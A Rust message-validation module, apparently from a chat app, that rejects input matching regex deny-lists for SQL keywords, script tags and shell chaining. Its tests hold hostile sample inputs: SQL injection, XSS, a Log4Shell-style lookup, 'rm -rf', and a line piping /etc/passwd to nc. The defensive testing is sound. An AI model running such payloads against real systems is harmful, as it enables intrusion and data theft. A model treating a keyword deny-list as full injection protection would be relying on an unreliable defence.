use std::sync::LazyLock;

use regex::Regex;
use thiserror::Error;

pub const MAX_MESSAGE_LENGTH: usize = 5000;

#[derive(Debug, Error, PartialEq, Eq)]
pub enum ValidationError {
    #[error("message cannot be empty")]
    Empty,
    #[error("message too long")]
    TooLong,
    #[error("message contains prohibited content")]
    Prohibited,
}

// 注入类内容的黑名单：SQL 关键字、脚本标签、命令拼接
static PROHIBITED_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)\b(union|select|insert|update|delete|drop|create|alter|exec|execute)\b",
        r"(?i)(<script|<iframe|<object|<embed|<img[^>]*onerror|javascript:)",
        r"(;.*\||\$\{|`)",
    ]
    .into_iter()
    .filter_map(|pattern| Regex::new(pattern).ok())
    .collect()
});

pub fn sanitize(content: &str) -> String {
    content.replace('\0', "").trim().to_string()
}

pub fn validate_message(content: &str) -> Result<(), ValidationError> {
    if content.is_empty() {
        return Err(ValidationError::Empty);
    }

    if content.chars().count() > MAX_MESSAGE_LENGTH {
        return Err(ValidationError::TooLong);
    }

    if PROHIBITED_PATTERNS.iter().any(|re| re.is_match(content)) {
        return Err(ValidationError::Prohibited);
    }

    Ok(())
}

/// 清洗后校验，返回可以落库的内容
pub fn clean_message(content: &str) -> Result<String, ValidationError> {
    let content = sanitize(content);
    validate_message(&content)?;
    Ok(content)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_sanitize_strips_nul_and_whitespace() {
        assert_eq!(sanitize("  he\0llo \n"), "hello");
    }

    #[test]
    fn test_accepts_normal_text() {
        assert_eq!(clean_message(" hello ").unwrap(), "hello");
        assert!(clean_message("Что тебе подарить? (книгу или шарф)").is_ok());
        assert!(clean_message("I created a wishlist, updated yesterday").is_ok());
    }

    #[test]
    fn test_rejects_empty() {
        assert_eq!(clean_message(""), Err(ValidationError::Empty));
        assert_eq!(clean_message("  \0 "), Err(ValidationError::Empty));
    }

    #[test]
    fn test_length_limit_counts_chars() {
        let at_limit = "ж".repeat(MAX_MESSAGE_LENGTH);
        assert!(clean_message(&at_limit).is_ok());

        let over = "a".repeat(MAX_MESSAGE_LENGTH + 1);
        assert_eq!(clean_message(&over), Err(ValidationError::TooLong));
    }

    #[test]
    fn test_rejects_injection_patterns() {
        for payload in [
            "1 UNION SELECT password FROM users",
            "drop table chat_messages",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "click javascript:void(0)",
            "ls; cat /etc/passwd | nc host 1",
            "${jndi:ldap://x}",
            "`rm -rf`",
        ] {
            assert_eq!(
                clean_message(payload),
                Err(ValidationError::Prohibited),
                "{payload}"
            );
        }
    }
}
